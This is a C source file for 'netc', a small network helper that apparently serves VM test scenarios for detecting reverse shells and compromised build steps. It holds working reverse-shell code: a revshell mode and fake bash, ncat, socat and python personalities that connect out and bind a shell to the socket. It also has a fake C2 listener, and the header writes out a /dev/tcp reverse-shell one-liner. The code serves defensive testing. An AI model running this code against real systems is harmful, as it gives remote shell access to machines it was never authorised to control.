/*
 * netc — a tiny static network helper for the VM scenarios (every scenario's guest has it as
 * /usr/local/bin/netc). Plain syscalls, numeric addresses only, every wait bounded by alarm().
 *
 *   netc connect ADDR PORT [MSG]      TCP connect; send MSG and a newline; print the reply.
 *                                     Exit 0 connected, 1 refused or failed.
 *   netc udp ADDR PORT MSG            UDP connect() and send one datagram.
 *   netc listen ADDR PORT READY [REPLY]   accept one TCP connection (READY is created once
 *                                     listening), print what it sends, answer REPLY, exit.
 *   netc serve ADDR PORT READY CMDS OUT   accept one connection, send CMDS, copy everything
 *                                     received into OUT until the peer closes (a fake C2).
 *   netc revshell ADDR PORT PROG ARG0 [ARGS...]   connect, put the socket on fds 0, 1 and 2,
 *                                     and exec PROG (what `sh -i >& /dev/tcp/ADDR/PORT 0>&1` does).
 *
 * Installed (copied) under another name, it plays that tool's part of a reverse shell or a
 * compromised build step, with the real tool's command line (the guest has no bash, ncat,
 * socat or python, and rules look at process names and arguments):
 *   bash -c 'CMD'        CMD holding /dev/tcp/ADDR/PORT: connect, socket on 0/1/2, exec
 *                        `/bin/sh -i` in the same process (bash's redirection, then its exec)
 *   ncat -e PROG ADDR PORT | ncat --sh-exec CMD ADDR PORT
 *                        connect, then a child with the socket on 0/1/2 runs PROG (or
 *                        `/bin/sh -c CMD`); waits for it (ncat's -e forks, unlike nc's)
 *   socat TCP:ADDR:PORT EXEC:PROG | SYSTEM:CMD
 *                        the same as ncat: connect, child on the socket
 *   python3 -c 'CODE'    CODE holding ("ADDR", PORT): connect there, send a line, close
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static socklen_t addr_parse(const char *host, const char *port, struct sockaddr_storage *ss)
{
    memset(ss, 0, sizeof *ss);
    struct sockaddr_in *in4 = (struct sockaddr_in *)ss;
    struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;
    int p = atoi(port);
    if (inet_pton(AF_INET, host, &in4->sin_addr) == 1) {
        in4->sin_family = AF_INET;
        in4->sin_port = htons((unsigned short)p);
        return sizeof *in4;
    }
    if (inet_pton(AF_INET6, host, &in6->sin6_addr) == 1) {
        in6->sin6_family = AF_INET6;
        in6->sin6_port = htons((unsigned short)p);
        return sizeof *in6;
    }
    fprintf(stderr, "netc: bad address %s\n", host);
    exit(2);
}

static int sock_connect(const char *host, const char *port, int type)
{
    struct sockaddr_storage ss;
    socklen_t len = addr_parse(host, port, &ss);
    int fd = socket(ss.ss_family, type, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&ss, len) < 0) {
        fprintf(stderr, "netc: connect %s:%s: %s\n", host, port, strerror(errno));
        exit(1);
    }
    return fd;
}

static int sock_listen(const char *host, const char *port, const char *ready)
{
    struct sockaddr_storage ss;
    socklen_t len = addr_parse(host, port, &ss);
    int one = 1;
    int fd = socket(ss.ss_family, SOCK_STREAM, 0);
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) < 0 ||
        bind(fd, (struct sockaddr *)&ss, len) < 0 || listen(fd, 4) < 0) {
        fprintf(stderr, "netc: listen %s:%s: %s\n", host, port, strerror(errno));
        exit(1);
    }
    int r = open(ready, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (r >= 0)
        close(r);
    int c = accept(fd, NULL, NULL);
    if (c < 0) {
        fprintf(stderr, "netc: accept: %s\n", strerror(errno));
        exit(1);
    }
    close(fd);
    return c;
}

static void send_all(int fd, const char *s, size_t n)
{
    while (n > 0) {
        ssize_t w = write(fd, s, n);
        if (w <= 0)
            return;
        s += w;
        n -= (size_t)w;
    }
}

/* Copy from fd to out until EOF (or the alarm). With one_line, stop after a newline. */
static void copy_from(int fd, int out, int one_line)
{
    char b[4096];
    ssize_t n;
    while ((n = read(fd, b, sizeof b)) > 0) {
        send_all(out, b, (size_t)n);
        if (one_line && memchr(b, '\n', (size_t)n))
            break;
    }
}

/* Connect, then run PROG ARGV (argv[0] given) in a child whose fds 0/1/2 are the socket. */
static int fork_on_socket(const char *host, const char *port, char *const *cmd)
{
    int fd = sock_connect(host, port, SOCK_STREAM);
    pid_t pid = fork();
    if (pid < 0) {
        perror("fork");
        return 1;
    }
    if (pid == 0) {
        for (int i = 0; i < 3; i++)
            dup2(fd, i);
        if (fd > 2)
            close(fd);
        execv(cmd[0], cmd);
        perror(cmd[0]);
        _exit(127);
    }
    close(fd);
    int st;
    if (waitpid(pid, &st, 0) < 0)
        return 1;
    return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

/* "/dev/tcp/ADDR/PORT" anywhere in s: ADDR and PORT into host and port. */
static int dev_tcp(const char *s, char *host, size_t hlen, char *port, size_t plen)
{
    const char *p = strstr(s, "/dev/tcp/");
    if (!p)
        return -1;
    p += 9;
    size_t n = strcspn(p, "/");
    if (p[n] != '/' || n >= hlen)
        return -1;
    memcpy(host, p, n);
    host[n] = 0;
    p += n + 1;
    n = strspn(p, "0123456789");
    if (n == 0 || n >= plen)
        return -1;
    memcpy(port, p, n);
    port[n] = 0;
    return 0;
}

/* ("ADDR", PORT) or ('ADDR', PORT) in python code. */
static int py_addr(const char *s, char *host, size_t hlen, char *port, size_t plen)
{
    for (const char *p = strchr(s, '('); p; p = strchr(p + 1, '(')) {
        const char *q = p + 1;
        if (*q != '"' && *q != '\'')
            continue;
        size_t n = strspn(q + 1, "0123456789.:abcdef");
        if (n == 0 || n >= hlen || q[1 + n] != *q)
            continue;
        memcpy(host, q + 1, n);
        host[n] = 0;
        const char *r = q + 2 + n;
        r += strspn(r, ", ");
        size_t m = strspn(r, "0123456789");
        if (m == 0 || m >= plen)
            continue;
        memcpy(port, r, m);
        port[m] = 0;
        return 0;
    }
    return -1;
}

/* The tool personalities (see the top comment). Returns -1 when argv[0] is none of them. */
static int personality(int argc, char **argv)
{
    const char *me = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];
    char host[64], port[16];
    if (!strcmp(me, "bash")) {
        if (argc < 3 || strcmp(argv[1], "-c") || dev_tcp(argv[2], host, sizeof host, port,
                                                           sizeof port) < 0) {
            fprintf(stderr, "bash (netc): only -c '... /dev/tcp/ADDR/PORT ...'\n");
            return 2;
        }
        int fd = sock_connect(host, port, SOCK_STREAM);
        for (int i = 0; i < 3; i++)
            dup2(fd, i);
        if (fd > 2)
            close(fd);
        alarm(0);
        char *sh[] = {"sh", "-i", NULL};
        execv("/bin/sh", sh);
        perror("/bin/sh");
        return 127;
    }
    if (!strcmp(me, "ncat") && argc == 5) {
        if (!strcmp(argv[1], "-e") || !strcmp(argv[1], "--exec")) {
            char *cmd[] = {argv[2], NULL};
            return fork_on_socket(argv[3], argv[4], cmd);
        }
        if (!strcmp(argv[1], "--sh-exec")) {
            char *cmd[] = {"/bin/sh", "-c", argv[2], NULL};
            return fork_on_socket(argv[3], argv[4], cmd);
        }
    }
    if (!strcmp(me, "ncat")) {
        fprintf(stderr, "ncat (netc): only -e PROG|--sh-exec CMD ADDR PORT\n");
        return 2;
    }
    if (!strcmp(me, "socat")) {
        const char *t = argc == 3 ? argv[1] : "";
        const char *c = strchr(t, ':') ? strchr(t, ':') + 1 : "";
        const char *pc = strrchr(c, ':');
        if (strncasecmp(t, "TCP:", 4) || !pc || (size_t)(pc - c) >= sizeof host) {
            fprintf(stderr, "socat (netc): only TCP:ADDR:PORT EXEC:PROG|SYSTEM:CMD\n");
            return 2;
        }
        memcpy(host, c, (size_t)(pc - c));
        host[pc - c] = 0;
        snprintf(port, sizeof port, "%s", pc + 1);
        if (!strncasecmp(argv[2], "EXEC:", 5)) {
            char *cmd[] = {argv[2] + 5, NULL};
            return fork_on_socket(host, port, cmd);
        }
        if (!strncasecmp(argv[2], "SYSTEM:", 7)) {
            char *cmd[] = {"/bin/sh", "-c", argv[2] + 7, NULL};
            return fork_on_socket(host, port, cmd);
        }
        fprintf(stderr, "socat (netc): only EXEC: or SYSTEM: as the second address\n");
        return 2;
    }
    if (!strncmp(me, "python", 6)) {
        if (argc < 3 || strcmp(argv[1], "-c") ||
            py_addr(argv[2], host, sizeof host, port, sizeof port) < 0) {
            fprintf(stderr, "python (netc): only -c 'CODE with (\"ADDR\", PORT)'\n");
            return 2;
        }
        int fd = sock_connect(host, port, SOCK_STREAM);
        send_all(fd, "python\n", 7);
        shutdown(fd, SHUT_WR);
        copy_from(fd, 1, 0);
        close(fd);
        return 0;
    }
    return -1;
}

int main(int argc, char **argv)
{
    alarm(30); /* no helper outlives a stuck peer */
    int r = personality(argc, argv);
    if (r >= 0)
        return r;
    if (argc >= 4 && !strcmp(argv[1], "connect")) {
        int fd = sock_connect(argv[2], argv[3], SOCK_STREAM);
        printf("connected %s:%s\n", argv[2], argv[3]);
        fflush(stdout);
        if (argc >= 5) {
            send_all(fd, argv[4], strlen(argv[4]));
            send_all(fd, "\n", 1);
            shutdown(fd, SHUT_WR);
            copy_from(fd, 1, 0);
        }
        close(fd);
        return 0;
    }
    if (argc >= 5 && !strcmp(argv[1], "udp")) {
        int fd = sock_connect(argv[2], argv[3], SOCK_DGRAM);
        send_all(fd, argv[4], strlen(argv[4]));
        close(fd);
        return 0;
    }
    if (argc >= 5 && !strcmp(argv[1], "listen")) {
        int c = sock_listen(argv[2], argv[3], argv[4]);
        copy_from(c, 1, 1);
        if (argc >= 6) {
            send_all(c, argv[5], strlen(argv[5]));
            send_all(c, "\n", 1);
        }
        close(c);
        return 0;
    }
    if (argc >= 7 && !strcmp(argv[1], "serve")) {
        int c = sock_listen(argv[2], argv[3], argv[4]);
        int out = open(argv[6], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (out < 0) {
            perror(argv[6]);
            return 1;
        }
        send_all(c, argv[5], strlen(argv[5]));
        copy_from(c, out, 0);
        close(out);
        close(c);
        return 0;
    }
    if (argc >= 6 && !strcmp(argv[1], "revshell")) {
        int fd = sock_connect(argv[2], argv[3], SOCK_STREAM);
        for (int i = 0; i < 3; i++)
            dup2(fd, i);
        if (fd > 2)
            close(fd);
        alarm(0);
        execv(argv[4], argv + 5);
        perror(argv[4]);
        return 127;
    }
    fprintf(stderr, "usage: netc connect|udp|listen|serve|revshell ... (see netc.c)\n");
    return 2;
}
